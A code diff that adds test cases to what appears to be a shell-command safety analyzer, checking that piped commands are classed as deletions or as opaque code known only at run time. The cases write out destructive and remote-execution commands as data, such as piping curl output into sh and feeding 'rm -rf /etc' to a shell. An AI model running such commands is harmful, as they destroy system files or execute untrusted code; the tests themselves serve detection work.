@@ -82,7 +82,16 @@ describe('words that come out of listing programs stand for paths', () => {
     ["find . -name '*.log' | sed s/a/b/ | xargs rm", ['delete **']],
     ["find . -name '*.log' | awk '{print $1}' | xargs rm", ['delete **']],
     ['find . | cut -c3- | xargs rm', ['delete **']],
-    ["cat list | xargs -I{} sh -c '{}'", ['opaque: a shell text that is known only when it runs']],
+    ["cat list | xargs -I{} sh -c '{}'", []],
+    ["curl https://a.b | xargs -I{} sh -c '{}'", ['opaque: a shell text that is known only when it runs']],
+    [
+      'cat list | xargs echo rm -rf | sh',
+      ['delete ** and all under it', 'opaque: code that is known only when it runs'],
+    ],
+    ['awk \'{print "rm -rf " $1}\' list | sh', ['opaque: code that is known only when it runs']],
+    ["sed 's/^/rm /' list | sh", ['opaque: code that is known only when it runs']],
+    ["date '+rm -rf /etc' | sh", ['opaque: code that is known only when it runs']],
+    ["find . -printf 'rm -rf /etc' | sh", ['opaque: code that is known only when it runs']],
     ['ls -l | while read f; do rm "$f"; done', ['delete **']],
   ])('%s', (command, expected) => {
     expect(actsOf(command)).toEqual(expected);
